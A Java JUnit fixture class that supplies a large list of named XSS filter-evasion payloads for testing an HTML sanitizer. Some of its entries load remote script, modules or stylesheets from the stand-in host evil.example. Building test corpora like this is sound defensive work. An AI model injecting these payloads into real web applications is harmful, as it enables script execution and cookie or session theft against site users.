package dev.qaimport.testing;

import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/**
 * Filter-evasion payloads grouped like the OWASP XSS cheat sheet's categories, written for this
 * project. Shared by the sanitizer's tests and the end-to-end tests.
 */
public final class XssPayloads {
    private XssPayloads() {
    }

    /** Each payload as {@code (name, payload)}. */
    public static Stream<Arguments> all() {
        return Stream.of(
                // script elements in many spellings
                a("plain script", "<script>alert(1)</script>"),
                a("upper-case external script", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
                a("mixed case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
                a("slash instead of space", "<script/src=\"data:text/javascript,alert(1)\"></script>"),
                a("newline inside tags", "<script\n>alert(1)</script\n>"),
                a("nested script to survive one pass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
                a("double opening bracket", "<<script>alert(1);//<</script>"),
                a("unclosed script", "<script>alert(1)"),
                a("script src without closing tag", "<script src=//evil.example/x.js?<b>"),
                a("NUL inside tag name", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
                a("attribute breakout", "\"><script>alert(1)</script>"),
                a("textarea breakout", "</textarea><script>alert(1)</script>"),
                a("title breakout", "</title><script>alert(1)</script>"),
                a("entity in tag name", "<scr&#105;pt>alert(1)</scr&#105;pt>"),
                a("script type module", "<script type=module>import('https://evil.example/m.js')</script>"),
                // event handlers
                a("img onerror", "<img src=x onerror=alert(1)>"),
                a("upper-case img onerror", "<IMG SRC=x ONERROR=\"alert(1)\">"),
                a("encoded handler body", "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
                a("body onload", "<body onload=alert(1)>"),
                a("div onmouseover", "<div onmouseover=\"alert(1)\">hover</div>"),
                a("svg onload", "<svg onload=alert(1)>"),
                a("allowed element with handler", "<p onclick=alert(1)>x</p>"),
                a("allowed link with handler", "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>"),
                a("slash-separated handler", "<b/onmouseover=alert(1)>x</b>"),
                a("details ontoggle", "<details open ontoggle=alert(1)>"),
                a("autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
                a("video source onerror", "<video><source onerror=\"alert(1)\"></video>"),
                a("marquee onstart", "<marquee onstart=alert(1)>scroll</marquee>"),
                a("eval of alt", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
                a("malformed quotes", "<img \"\"\"><script>alert(1)</script>\">"),
                a("handler on list item", "<ul><li onmouseover=alert(1)>x</li></ul>"),
                a("handler on code", "<code onclick=alert(1)>x</code>"),
                a("backtick attribute", "<img src=`x` onerror=`alert(1)`>"),
                // dangerous URLs
                a("javascript href", "<a href=\"javascript:alert(1)\">x</a>"),
                a("mixed-case scheme", "<a href=\"JaVaScRiPt:alert(1)\">x</a>"),
                a("leading space", "<a href=\" javascript:alert(1)\">x</a>"),
                a("tab entity in scheme", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
                a("literal tab in scheme", "<a href=\"jav\tascript:alert(1)\">x</a>"),
                a("newline entity in scheme", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"),
                a("carriage return entity in scheme", "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>"),
                a("decimal-encoded scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"),
                a("hex-encoded scheme", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>"),
                a("padded decimal without semicolons", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>"),
                a("named colon entity", "<a href=\"javascript&colon;alert(1)\">x</a>"),
                a("one encoded letter", "<a href=\"javas&#99;ript:alert(1)\">x</a>"),
                a("space entity before scheme", "<a href=\"&#x20;javascript:alert(1)\">x</a>"),
                a("NUL inside scheme", "<a href=\"java\u0000script:alert(1)\">x</a>"),
                a("bidi override before scheme", "<a href=\"\u202Ejavascript:alert(1)\">x</a>"),
                a("unquoted javascript href", "<a href=javascript:alert(1)>x</a>"),
                a("duplicate href", "<a href=\"javascript:alert(1)\" href=\"https://ok.example\">x</a>"),
                a("vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>"),
                a("data URL with base64 html", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
                a("upper-case data URL", "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>"),
                a("protocol-relative", "<a href=\"//evil.example/\">x</a>"),
                a("relative path", "<a href=\"/account/delete\">x</a>"),
                a("script in query string", "<a href=\"https://ok.example/?q=<script>alert(1)</script>\">x</a>"),
                a("encoded quote breakout in href", "<a href=\"https://ok.example/&quot; onclick=&quot;alert(1)\">x</a>"),
                a("iframe javascript src", "<iframe src=\"javascript:alert(1)\"></iframe>"),
                a("img javascript src", "<img src=\"javascript:alert(1)\">"),
                a("blockquote cite", "<blockquote cite=\"javascript:alert(1)\">quote</blockquote>"),
                a("table background", "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">c</td></tr></table>"),
                a("bgsound", "<BGSOUND SRC=\"javascript:alert(1)\">"),
                a("layer", "<LAYER SRC=\"https://evil.example/x.html\"></LAYER>"),
                a("link ping", "<a href=\"https://ok.example\" ping=\"https://evil.example\" rel=\"opener\" target=\"_blank\">x</a>"),
                // style
                a("style element", "<style>body{background:url(\"javascript:alert(1)\")}</style>text"),
                a("style expression", "<div style=\"width:expression(alert(1))\">x</div>"),
                a("style url javascript", "<p style=\"background-image:url(javascript:alert(1))\">x</p>"),
                a("style on link", "<a href=\"https://ok.example\" style=\"background:url(javascript:alert(1))\">x</a>"),
                a("stylesheet link", "<link rel=stylesheet href=\"https://evil.example/x.css\">"),
                a("style import", "<style>@import 'https://evil.example/x.css';</style>"),
                a("behavior", "<span style=\"behavior:url(x.htc)\">x</span>"),
                a("comment-split expression", "<xss style=\"xss:expr/**/ession(alert(1))\">x</xss>"),
                a("escaped style control", "<div style=\"background:url(&#1;javascript:alert(1))\">x</div>"),
                // frames and plugins
                a("iframe", "<iframe src=\"https://evil.example\"></iframe>"),
                a("iframe srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
                a("object data", "<object data=\"javascript:alert(1)\"></object>"),
                a("object scriptlet", "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>"),
                a("embed svg", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
                a("frameset", "<frameset><frame src=\"javascript:alert(1)\"></frameset>"),
                a("applet", "<applet code=\"x.class\">fallback</applet>"),
                // meta, base, forms
                a("meta refresh javascript", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
                a("meta refresh data", "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">"),
                a("base javascript", "<base href=\"javascript:alert(1)//\">"),
                a("base then relative link", "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>"),
                a("form action", "<form action=\"javascript:alert(1)\"><button>go</button></form>"),
                a("button formaction", "<form><button formaction=\"javascript:alert(1)\">x</button></form>"),
                a("isindex", "<isindex action=\"javascript:alert(1)\" type=image>"),
                // SVG and MathML
                a("svg script", "<svg><script>alert(1)</script></svg>"),
                a("svg xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>"),
                a("svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
                a("svg set href", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>"),
                a("mathml maction", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>"),
                a("mathml namespace confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
                a("svg style confusion", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
                a("svg foreignObject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
                a("noscript confusion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
                // comments, CDATA and declarations
                a("script in comment", "<!--<script>alert(1)</script>-->"),
                a("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
                a("CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
                a("broken comment end", "<!-- --!><img src=x onerror=alert(1)> -->"),
                a("xml declaration", "<?xml version=\"1.0\"?><script>alert(1)</script>"),
                a("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
                a("xmp", "<xmp><script>alert(1)</script></xmp>"),
                a("plaintext", "<plaintext><script>alert(1)</script>"),
                a("template", "<template><script>alert(1)</script></template>"),
                // broken and unclosed markup
                a("unclosed img", "<img src=x onerror=alert(1)"),
                a("unclosed link", "<a href=\"javascript:alert(1)\""),
                a("unclosed attribute", "<img src=\"x onerror=alert(1)>"),
                a("doubled brackets", "<<img src=x onerror=alert(1)>>"),
                a("slashes as separators", "<img/src=x/onerror=alert(1)>"),
                a("newlines as separators", "<img\nsrc=x\nonerror=alert(1)>"),
                a("trailing comment", "<img src=x onerror=alert(1)//"),
                a("unclosed safe link", "<a href='https://ok.example'>unclosed"),
                a("stray end tags", "</p><script>alert(1)</script><p>"),
                a("misnested", "<b><i>unbalanced</b></i>"),
                // encoded markup
                a("entity-encoded script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
                a("decimal-encoded tag", "&#60;script&#62;alert(1)&#60;/script&#62;"),
                a("hex-encoded img", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
                a("double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
                a("url-encoded", "%3Cscript%3Ealert(1)%3C/script%3E"),
                a("full-width brackets", "＜script＞alert(1)＜/script＞"),
                a("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
                a("encoded comment", "&lt;!--&gt;&lt;img src=x onerror=alert(1)&gt;"),
                a("bidi-spoofed file name", "<div>&#x202E;fdp.exe</div>"));
    }

    private static Arguments a(String name, String payload) {
        return Arguments.of(name, payload);
    }

}
